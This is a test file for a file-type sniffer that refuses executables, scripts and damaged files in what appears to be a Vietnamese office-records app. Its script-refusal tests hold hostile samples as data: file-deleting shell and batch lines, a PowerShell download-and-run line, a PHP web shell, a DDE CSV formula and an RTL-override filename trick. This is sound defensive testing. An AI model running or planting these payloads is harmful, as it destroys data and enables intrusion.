import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { canonicalExtension, FILE_KINDS, sniffFile, type SniffResult } from '../../src-main/blobs/sniff';
import {
  encodeUtf16le,
  imageBytes,
  makeCfb,
  makeDoc,
  makeDocx,
  makeInlineXlsx,
  makeMz,
  makeOds,
  makeOdt,
  makePdf,
  makeXls,
  makeZip,
  MSI_CLSID,
  utf8,
  VI_OFFICE,
  VI_TITLE,
} from './blobs-fixtures';

function expectKind(r: SniffResult, kind: string, macro = false): Extract<SniffResult, { ok: true }> {
  if (!r.ok) throw new Error(`expected ${kind}, got refusal ${r.reason}: ${r.message}`);
  expect(r.kind).toBe(kind);
  expect(r.macro).toBe(macro);
  return r;
}

function expectRefused(r: SniffResult, reason: string): Extract<SniffResult, { ok: false }> {
  if (r.ok) throw new Error(`expected refusal ${reason}, got ${r.kind}`);
  expect(r.reason).toBe(reason);
  // A clerk reads this: Vietnamese, names the file, no raw codes.
  expect(r.message).toMatch(/[ăâđêôơưạảấầẩẫậắằẳẵặẹẻẽếềểễệỉịọỏốồổỗộớờởỡợụủứừửữựỳỵỷỹ]/i);
  return r;
}

let pdf: Uint8Array;
let xlsx: Uint8Array;

beforeAll(async () => {
  pdf = await makePdf([[VI_OFFICE, VI_TITLE]]);
  const wb = new ExcelJS.Workbook();
  wb.addWorksheet('Sổ công văn').addRows([
    ['Số', 'Trích yếu'],
    [1, VI_TITLE],
  ]);
  xlsx = new Uint8Array(await wb.xlsx.writeBuffer());
});

describe('sniff: allowed kinds by content', () => {
  it('exports the closed list of kinds', () => {
    expect(FILE_KINDS).toEqual(['pdf', 'doc', 'docx', 'odt', 'rtf', 'txt', 'xls', 'xlsx', 'ods', 'csv', 'jpeg', 'png', 'gif', 'zip', 'rar']);
  });

  it('PDF', async () => {
    const r = expectKind(await sniffFile(pdf, 'Quyết định 12.pdf'), 'pdf');
    expect(r.mime).toBe('application/pdf');
    expect(r.notes).toEqual([]);
  });

  it('DOCX, and a DOCM with vbaProject.bin flagged as macro', async () => {
    const r = expectKind(await sniffFile(makeDocx([VI_TITLE]), 'to-trinh.docx'), 'docx');
    expect(r.mime).toBe('application/vnd.openxmlformats-officedocument.wordprocessingml.document');
    const m = expectKind(await sniffFile(makeDocx([VI_TITLE], { macro: true }), 'to-trinh.docm'), 'docx', true);
    expect(m.mime).toBe('application/vnd.ms-word.document.macroEnabled.12');
    expect(m.notes.some((n) => n.startsWith('Tệp có macro'))).toBe(true);
    expect(canonicalExtension('docx', true)).toBe('docm');
  });

  it('a docx content type without vbaProject.bin but with one present is still a macro file', async () => {
    const r = await sniffFile(
      makeZip({
        '[Content_Types].xml':
          '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        'word/document.xml': '<w:document/>',
        'word/vbaProject.bin': makeCfb([{ name: 'VBA', children: [] }]),
      }),
      'a.docx',
    );
    expectKind(r, 'docx', true);
  });

  it('[Content_Types].xml is read as XML: single quotes count, a DOCTYPE makes the package damaged', async () => {
    const type = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
    const quoted = makeZip({ '[Content_Types].xml': `<Types><Override PartName='/word/document.xml' ContentType='${type}'/></Types>`, 'word/document.xml': '<w:document/>' });
    expectKind(await sniffFile(quoted, 'a.docx'), 'docx');
    const doctype = makeZip({
      '[Content_Types].xml': `<!DOCTYPE Types [<!ENTITY t "${type}">]><Types><Override PartName="/word/document.xml" ContentType="${type}"/></Types>`,
      'word/document.xml': '<w:document/>',
    });
    expect(expectRefused(await sniffFile(doctype, 'a.docx'), 'unknown').message).toMatch(/bị hỏng/);
  });

  it('XLSX written by ExcelJS, inline-string XLSX, and XLSM', async () => {
    expectKind(await sniffFile(xlsx, 'so-cong-van.xlsx'), 'xlsx');
    expectKind(await sniffFile(makeInlineXlsx([['Họ tên', 1]]), 'ds.xlsx'), 'xlsx');
    const m = expectKind(await sniffFile(makeInlineXlsx([['a']], { macro: true }), 'ds.xlsm'), 'xlsx', true);
    expect(m.mime).toBe('application/vnd.ms-excel.sheet.macroEnabled.12');
  });

  it('ODT and ODS; LibreOffice Basic modules are macros, empty library indexes are not', async () => {
    expectKind(await sniffFile(makeOdt([VI_TITLE]), 'bao-cao.odt'), 'odt');
    const m = expectKind(await sniffFile(makeOdt([VI_TITLE], { macro: true }), 'bao-cao.odt'), 'odt', true);
    expect(m.notes[0]).toMatch(/^Tệp có macro/);
    expectKind(await sniffFile(makeOds('Trang 1', [['a', 'b']]), 'bang.ods'), 'ods');
  });

  it('old Word and Excel by their OLE2 directory, with macro storages', async () => {
    expectKind(await sniffFile(makeDoc(), 'cong-van.doc'), 'doc');
    expectKind(await sniffFile(makeDoc({ macro: true }), 'cong-van.doc'), 'doc', true);
    expectKind(await sniffFile(makeXls(), 'bang-luong.xls'), 'xls');
    expectKind(await sniffFile(makeXls({ macro: true }), 'bang-luong.xls'), 'xls', true);
    const r = expectKind(await sniffFile(makeXls(), 'bang-luong.doc'), 'xls');
    expect(r.notes[0]).toContain('.doc');
  });

  it('a Word document embedding an Excel workbook is still Word', async () => {
    const r = await sniffFile(makeCfb([{ name: 'WordDocument' }, { name: 'ObjectPool', children: [{ name: '_1234', children: [{ name: 'Workbook' }] }] }]), 'a.doc');
    expectKind(r, 'doc');
  });

  it('RTF, and RTF with an embedded OLE object flagged', async () => {
    expectKind(await sniffFile(utf8('{\\rtf1\\ansi Xin ch\\u224?o}'), 'a.rtf'), 'rtf');
    const r = expectKind(await sniffFile(utf8('{\\rtf1{\\object\\objemb{\\*\\objdata 0105000002}}}'), 'a.rtf'), 'rtf', true);
    expect(r.notes[0]).toMatch(/OLE/);
  });

  it('images made by ImageMagick', async () => {
    expectKind(await sniffFile(imageBytes('png', ['-size', '8x8', 'xc:red']), 'con-dau.png'), 'png');
    expectKind(await sniffFile(imageBytes('jpg', ['-size', '8x8', 'xc:blue']), 'anh.jpg'), 'jpeg');
    expectKind(await sniffFile(imageBytes('gif', ['-size', '8x8', 'xc:green']), 'anh.gif'), 'gif');
  });

  it('ZIP and RAR archives', async () => {
    const z = expectKind(await sniffFile(makeZip({ 'ho-so/quyet-dinh.pdf': pdf, 'ho-so/ghi-chu.txt': 'Ghi chú' }), 'ho-so.zip'), 'zip');
    expect(z.mime).toBe('application/zip');
    const rar5 = Uint8Array.from([0x52, 0x61, 0x72, 0x21, 0x1a, 0x07, 0x01, 0x00, ...randomBytes(64)]);
    expectKind(await sniffFile(rar5, 'ho-so.rar'), 'rar');
    const rar4 = Uint8Array.from([0x52, 0x61, 0x72, 0x21, 0x1a, 0x07, 0x00, ...randomBytes(64)]);
    expectKind(await sniffFile(rar4, 'ho-so.rar'), 'rar');
  });
});

describe('sniff: plain text', () => {
  const letter = `${VI_OFFICE.toUpperCase()}\nSố: 12/QĐ-UBND\n${VI_TITLE}\nĐiều 1. Giao chỉ tiêu (chi tiết tại phụ lục).\n- Thôn Đông: 120 hộ;\n- Thôn Tây: 95 hộ.\n`;

  it('UTF-8, with and without BOM', async () => {
    expectKind(await sniffFile(utf8(letter), 'ghi-chu.txt'), 'txt');
    const bom = Uint8Array.from([0xef, 0xbb, 0xbf, ...utf8(letter)]);
    const r = expectKind(await sniffFile(bom, 'ghi-chu.txt'), 'txt');
    expect(r.notes).toEqual([]);
  });

  it('UTF-16 with a BOM, little and big endian', async () => {
    expectKind(await sniffFile(encodeUtf16le(letter), 'ghi-chu.txt'), 'txt');
    const be = Buffer.from(letter, 'utf16le').swap16();
    expectKind(await sniffFile(Uint8Array.from([0xfe, 0xff, ...be]), 'ghi-chu.txt'), 'txt');
  });

  it('CSV only when the name says so', async () => {
    const csv = utf8('Số,Ngày,Trích yếu\n1,02/01/2025,"Quyết định về việc, giao chỉ tiêu"\n2,03/01/2025,=SUM(A1:A2)\n');
    expect(expectKind(await sniffFile(csv, 'so-den.csv'), 'csv').mime).toBe('text/csv');
    expectKind(await sniffFile(csv, 'so-den.txt'), 'txt');
  });

  it('legacy Windows-1258 text is accepted with a note to convert', async () => {
    const cp1258 = Uint8Array.from([0x55, 0xf7, 0x79, 0x20, 0x62, 0x61, 0x6e, 0x20, 0x6e, 0x68, 0xe2, 0x6e, 0x20, 0x64, 0xe2, 0x6e, 0x0a]);
    const r = expectKind(await sniffFile(cp1258, 'cu.txt'), 'txt');
    expect(r.notes[0]).toMatch(/Unicode/);
  });

  it('refuses UTF-16 without BOM, UTF-32 and text with NULs', async () => {
    expectRefused(await sniffFile(encodeUtf16le(letter, false), 'a.txt'), 'unknown');
    expectRefused(await sniffFile(Uint8Array.from([0xff, 0xfe, 0, 0, 0x41, 0, 0, 0]), 'a.txt'), 'unknown');
    expectRefused(await sniffFile(utf8('abc\0def'), 'a.txt'), 'unknown');
  });
});

describe('sniff: content wins over the extension', () => {
  it('a .pdf that is really a DOCX is a DOCX, with a note', async () => {
    const r = expectKind(await sniffFile(makeDocx([VI_TITLE]), 'baocao.pdf'), 'docx');
    expect(r.notes).toHaveLength(1);
    expect(r.notes[0]).toContain('.pdf');
    expect(r.notes[0]).toContain('Word (.docx)');
  });

  it('a PNG named .jpg, a PDF without extension, an RTF saved as .doc', async () => {
    expect(expectKind(await sniffFile(imageBytes('png', ['-size', '4x4', 'xc:white']), 'scan.jpg'), 'png').notes).toHaveLength(1);
    expect(expectKind(await sniffFile(pdf, 'quyetdinh'), 'pdf').notes[0]).toMatch(/không có đuôi/);
    expect(expectKind(await sniffFile(utf8('{\\rtf1 a}'), 'cv.doc'), 'rtf').notes).toHaveLength(1);
  });
});

describe('sniff: executables are refused whatever their name', () => {
  it('an ELF binary (/bin/ls) renamed hopdong.pdf', async () => {
    const r = expectRefused(await sniffFile(readFileSync('/bin/ls'), 'hopdong.pdf'), 'executable');
    expect(r.message).toContain('hopdong.pdf');
  });

  it('an MZ/PE header named .docx, .pdf and .txt', async () => {
    for (const name of ['hop-dong.docx', 'hopdong.pdf', 'readme.txt']) {
      expectRefused(await sniffFile(makeMz(), name), 'executable');
    }
  });

  it('Mach-O, Java class, Windows shortcut, WebAssembly', async () => {
    const macho = Uint8Array.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1, ...randomBytes(64)]);
    const javaClass = Uint8Array.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52, ...randomBytes(64)]);
    const lnk = Uint8Array.from([0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46, ...randomBytes(60)]);
    const wasm = Uint8Array.from([0x00, 0x61, 0x73, 0x6d, 1, 0, 0, 0]);
    for (const b of [macho, javaClass, lnk, wasm]) expectRefused(await sniffFile(b, 'tai-lieu.pdf'), 'executable');
  });

  it('an MSI installer (an OLE2 file that is not Word/Excel)', async () => {
    expectRefused(await sniffFile(makeCfb([{ name: 'SummaryInformation' }], { rootClsid: MSI_CLSID }), 'bang.xls'), 'executable');
    // MSI table streams have names packed into U+3800–U+4840, even without the CLSID.
    expectRefused(await sniffFile(makeCfb([{ name: '\u4840\u3b3f\u43f2' }]), 'bang.doc'), 'executable');
  });

  it('other OLE2 files (PowerPoint) and password-protected Office files are refused as unknown', async () => {
    expectRefused(await sniffFile(makeCfb([{ name: 'PowerPoint Document' }, { name: 'Current User' }]), 'a.ppt'), 'unknown');
    const enc = expectRefused(await sniffFile(makeCfb([{ name: 'EncryptionInfo' }, { name: 'EncryptedPackage' }]), 'mat.docx'), 'unknown');
    expect(enc.message).toMatch(/mật khẩu/);
  });

  it('names Windows would run are refused even when the bytes are harmless', async () => {
    expectRefused(await sniffFile(pdf, 'baocao.pdf.exe'), 'executable');
    expectRefused(await sniffFile(utf8('Xin chào'), 'ghi-chu.vbs'), 'script');
    expectRefused(await sniffFile(utf8('Xin chào'), 'trang.html'), 'script');
    // Windows drops trailing dots and spaces, so these are .exe files too.
    expectRefused(await sniffFile(pdf, 'hopdong.exe.'), 'executable');
    expectRefused(await sniffFile(pdf, 'hopdong.exe  '), 'executable');
    // A right-to-left override makes "hopdong\u202Efdp.exe" display as "hopdongexe.pdf"; our message drops it.
    const r = expectRefused(await sniffFile(pdf, 'hopdong\u202Efdp.exe'), 'executable');
    expect(r.message).toContain('hopdongfdp.exe');
  });

  it('a ZIP carrying an executable or a script is refused; an APK/JAR-like archive too', async () => {
    const r = expectRefused(await sniffFile(makeZip({ 'ho-so/cai-dat.exe': makeMz(), 'ho-so/a.pdf': pdf }), 'ho-so.zip'), 'executable');
    expect(r.message).toContain('cai-dat.exe');
    expectRefused(await sniffFile(makeZip({ 'run.js': 'eval(1)' }), 'a.zip'), 'executable');
    expectRefused(await sniffFile(makeZip({ 'META-INF/MANIFEST.MF': 'x', 'a/B.class': 'x' }), 'a.zip'), 'executable');
  });
});

describe('sniff: scripts are refused', () => {
  const cases: Array<[string, string]> = [
    ['#!/bin/sh\nrm -rf ~/Documents\n', 'shebang'],
    ['@echo off\r\ndel /q C:\\*.doc\r\n', 'batch'],
    ['$c = New-Object Net.WebClient\nIEX ($c.DownloadString("http://x/y"))\n', 'PowerShell'],
    ['Set sh = CreateObject("WScript.Shell")\nsh.Run "cmd /c calc"\n', 'VBScript'],
    ['var s = new ActiveXObject("WScript.Shell"); s.Run("calc");', 'JScript'],
    ['<html><body><script>alert(1)</script></body></html>', 'HTML'],
    ['<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', 'SVG'],
    ['<?php system($_GET["c"]); ?>', 'PHP'],
    ['import os\nos.system("calc")\n', 'Python'],
    ['Windows Registry Editor Version 5.00\r\n[HKEY_CURRENT_USER\\Software\\X]\r\n', 'registry'],
    ['[InternetShortcut]\r\nURL=file:///C:/Windows/System32/calc.exe\r\n', 'url shortcut'],
    ['function a(){\nvar x = 1;\nreturn x;\n}\n', 'plain JS'],
  ];
  it.each(cases)('%j (%s) in a .txt', async (content) => {
    expectRefused(await sniffFile(utf8(content), 'ghi-chu.txt'), 'script');
  });

  it('a DDE formula in a CSV cell', async () => {
    expectRefused(await sniffFile(utf8("Số,Tên\n1,=cmd|' /C calc'!A0\n"), 'ds.csv'), 'script');
  });

  it('does not flag ordinary Vietnamese administrative prose', async () => {
    const prose = [
      'CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM',
      'Độc lập - Tự do - Hạnh phúc',
      'Căn cứ Luật Tổ chức chính quyền địa phương ngày 19 tháng 6 năm 2015;',
      'Xét đề nghị của Công chức Văn phòng - Thống kê (kèm theo Tờ trình số 05/TTr-VP);',
      'QUYẾT ĐỊNH:',
      'Điều 1. Set up (thiết lập) tổ công tác; nếu (if) cần, báo cáo Chủ tịch!',
      '- Ông Nguyễn Văn A | Trưởng thôn!',
      'Nơi nhận: Như Điều 3; Lưu: VT.',
    ].join('\n');
    expectKind(await sniffFile(utf8(prose), 'qd.txt'), 'txt');
    expectKind(await sniffFile(utf8(prose), 'qd.csv'), 'csv');
  });
});

describe('sniff: other refusals', () => {
  it('empty file', async () => {
    expectRefused(await sniffFile(new Uint8Array(0), 'rong.pdf'), 'empty');
  });

  it('unknown binary, named when file-type recognises it', async () => {
    expectRefused(await sniffFile(randomBytes(4096), 'du-lieu.pdf'), 'unknown');
    const mp4 = Uint8Array.from([0, 0, 0, 0x18, ...utf8('ftypmp42'), 0, 0, 0, 0, ...utf8('mp42isom'), ...new Uint8Array(64)]);
    const r = expectRefused(await sniffFile(mp4, 'video.pdf'), 'unknown');
    expect(r.message).toContain('.mp4');
  });

  it('PowerPoint and other non-Word/Excel OOXML/ODF packages', async () => {
    const pptx = makeZip({
      '[Content_Types].xml':
        '<Types><Override PartName="/ppt/presentation.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/></Types>',
      'ppt/presentation.xml': '<p:presentation/>',
    });
    expectRefused(await sniffFile(pptx, 'trinh-chieu.pptx'), 'unknown');
    const odp = makeZip({ mimetype: 'application/vnd.oasis.opendocument.presentation', 'content.xml': '<x/>' });
    expectRefused(await sniffFile(odp, 'trinh-chieu.odp'), 'unknown');
  });

  it('a damaged ZIP and a damaged OLE2 file', async () => {
    const brokenZip = Uint8Array.from([0x50, 0x4b, 0x03, 0x04, ...randomBytes(200)]);
    expectRefused(await sniffFile(brokenZip, 'a.docx'), 'unknown');
    const brokenCfb = makeDoc();
    new DataView(brokenCfb.buffer).setUint32(0x30, 999, true); // directory starts beyond the end
    expectRefused(await sniffFile(brokenCfb, 'a.doc'), 'unknown');
  });

  it('a compound file whose directory tree loops is refused, not hung on', async () => {
    const cfb = makeCfb([{ name: 'WordDocument' }, { name: 'Data' }]);
    // Point entry 2's right sibling back at entry 1.
    new DataView(cfb.buffer).setUint32(1024 + 2 * 128 + 0x48, 1, true);
    expectRefused(await sniffFile(cfb, 'a.doc'), 'unknown');
  });

  // The 'cfb' package (SheetJS) was weighed against cfb.ts on these: the looping tree above kills the whole process
  // inside it (V8 "invalid size" fatal error, not an exception), which is why the directory reader stays our own.
  it('a compound file whose FAT or DIFAT chains loop, or that claims more FAT sectors than it has, is refused', async () => {
    const fatLoop = makeDoc();
    new DataView(fatLoop.buffer).setUint32(512 + 4, 1, true); // directory sector 1 is followed by itself
    expectRefused(await sniffFile(fatLoop, 'a.doc'), 'unknown');
    const hugeFat = makeDoc();
    new DataView(hugeFat.buffer).setUint32(0x2c, 0x7fffffff, true);
    expectRefused(await sniffFile(hugeFat, 'a.doc'), 'unknown');
    // 300 sectors claiming 240 FAT sectors: 109 listed in the header, the rest in a DIFAT sector that links to itself.
    const difatLoop = new Uint8Array(512 * 301);
    difatLoop.set(makeDoc());
    const v = new DataView(difatLoop.buffer);
    v.setUint32(0x2c, 240, true);
    v.setUint32(0x44, 10, true);
    v.setUint32(11 * 512 + 127 * 4, 10, true);
    const started = Date.now();
    expectRefused(await sniffFile(difatLoop, 'a.doc'), 'unknown');
    expect(Date.now() - started).toBeLessThan(2000);
  });
});
